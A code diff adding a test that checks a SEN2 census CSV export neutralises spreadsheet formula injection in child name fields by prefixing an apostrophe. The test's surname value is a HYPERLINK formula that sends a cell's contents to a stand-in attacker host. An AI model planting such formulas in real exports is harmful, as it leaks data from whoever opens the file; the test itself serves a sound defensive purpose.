@@ -316,3 +316,14 @@ def test_a_recorded_mediation_and_tribunal_appeal_appear_in_the_return(kids):
     refused_row, issued_row = rows[kids["not_assessed"].upn], rows[kids["issued"].upn]
     assert (refused_row["RequestMediation"], refused_row["RequestTribunal"]) == ("1", "1")
     assert (issued_row["AssessmentMediation"], issued_row["AssessmentTribunal"]) == ("0", "1")
+
+
+def test_the_csv_writes_a_formula_in_a_name_as_text_like_every_other_export(kids):
+    child = kids["issued"]
+    child.legal_last_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    child.legal_first_name = "@SUM(1+1)"
+    child.save()
+    rows = list(csv.DictReader(io.StringIO(sen2_files.to_csv(sen2.collect(CENSUS_2027, "999")))))
+    issued = next(r for r in rows if r["UPN"] == child.upn)
+    assert issued["Surname"] == "'" + child.legal_last_name
+    assert issued["Forename"] == "'@SUM(1+1)"
